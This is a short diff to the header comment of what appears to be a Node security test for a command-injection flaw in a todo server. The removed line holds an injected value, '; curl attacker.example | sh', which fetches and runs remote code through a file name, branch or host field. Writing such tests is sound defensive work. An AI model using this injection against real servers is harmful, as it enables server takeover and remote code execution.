@@ -1,4 +1,4 @@
-// AS-EXYTZ7AD: put `; curl attacker.example | sh` into a file name, branch or host field that the server pastes into a shell command
+// AS-EXYTZ7AD: take over the todo server and its files by putting shell commands into a file name, branch or host field that the server pastes into a command line
 // Fails while the code is vulnerable, passes once the fix is in. Start the app, then run it with
 // BASE_URL pointing at it (default http://localhost:3000).
 const { test } = require('node:test');
